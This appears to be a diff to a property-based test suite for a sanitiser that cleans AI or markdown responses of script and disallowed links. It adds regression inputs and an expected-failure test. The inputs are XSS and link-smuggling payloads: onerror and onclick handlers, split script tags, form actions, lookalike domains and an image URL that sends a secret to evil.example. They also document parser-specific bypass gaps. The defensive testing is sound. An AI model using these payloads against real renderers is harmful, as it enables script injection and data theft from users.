@@ -4,6 +4,7 @@ allowed http(s) hosts and holds no executable markup. And the stream equals the 
 
 from __future__ import annotations
 
+import pytest
 from hypothesis import HealthCheck, example, given, settings
 from hypothesis import strategies as st
 from rendering import problems
@@ -56,9 +57,8 @@ responses = st.lists(st.tuples(pieces(), SEPARATORS), min_size=1, max_size=6).ma
 )
 
 
-# Derandomised so the suite is stable; drop `derandomize` to explore new examples. A known
-# gap they find: a tag removed at the start of an empty list item ("- <img ...>" followed by
-# an indented line) changes where a renderer pairs backticks after it.
+# Derandomised so the suite is stable; drop `derandomize` to explore new examples (the
+# `@example`s below are what such runs found, each a link or handler that rendered).
 
 
 def assert_safe(text: str, settings_: GuardrailSettings) -> None:
@@ -75,6 +75,22 @@ def assert_safe(text: str, settings_: GuardrailSettings) -> None:
 @example(text="![http://evil.example/p.png?d=SECRET](http://evil.example/p.png?d=SECRET)")
 @example(text="a\n<div>\n`<img src=x onerror=alert(1)>`")
 @example(text="<<x>script>alert(1)<</x>/script>")
+# removed comments leave a blank first line: the indented line after it is a code block,
+# so the backticks in it pair with nothing and the image after them renders
+@example(text="<!-- javascript:[::1] --><!-- ftp://@evil.com) -->\n    <b>a [b] c</b><i "
+              "onclick=x>y</i>`<form action=www.xn--80ak6aa92e.com/?u=evil.com><button formaction="
+              "www.xn--80ak6aa92e.com/?u=evil.com>go</button></form>\n<video poster=https:\\\\evil"
+              ".com#frag src=https:\\\\evil.com#frag></video> <img srcset='https:\\\\evil.com#frag"
+              " 2x, https:\\\\evil.com#frag 1x'> ![here](//ａｃｍｅ.example/)`")
+# a fence inside a list item ends with the item (the tag removed left "- " behind)
+@example(text="- <img src=x>\n  ```\n[z](https://evil.example/)`")
+# an HTML block inside a list item ends with the item: no code span across its end
+@example(text="* <b onclick=x>\n    `x\n[z](https://evil.example/)`")
+# a list item's later paragraph is indented to its content: a definition, not code
+@example(text="- <b>x</b>\n\n<img src=x>\n    [ref]: hxxps://evil.com/a\n\n[][ref]")
+# linkify reads a scheme URL on through a backtick, which then opens no code span
+@example(text="here\\`HTTPS://api.docs.acme.example/p.png`\t<i onclick=x>y</i>\n    See "
+              "https://evil.com..`")
 def test_the_cleaned_text_renders_only_allowed_links_and_no_script(text):
     assert_safe(text, STRIP)
 
@@ -101,3 +117,12 @@ def test_any_chunking_of_such_responses_gives_the_batch_result(text, cuts):
     assert "".join(out) == batch.cleaned_response
     assert result.trace == batch.trace
     assert [a for _, a in result.annotations] == [a for _, a in batch.annotations]
+
+
+@pytest.mark.xfail(strict=True, reason="open gap: a fence opened inside a block quote that a "
+                   "tag removal formed closes with the quote, and the next paragraph's fence "
+                   "markers then pair across the blank line (cross-paragraph fence state)")
+def test_a_removal_that_forms_a_quoted_fence_leaves_no_script_in_a_later_fence():
+    text = ("<!-- x --> ```\n<script>a</script>\n```\n\n<meta http-equiv=refresh content='0;"
+            "url=x'>> ```\n<script>a</script>\n```\n\n```\n<script>a</script>\n```\n\n")
+    assert_safe(text, STRIP)
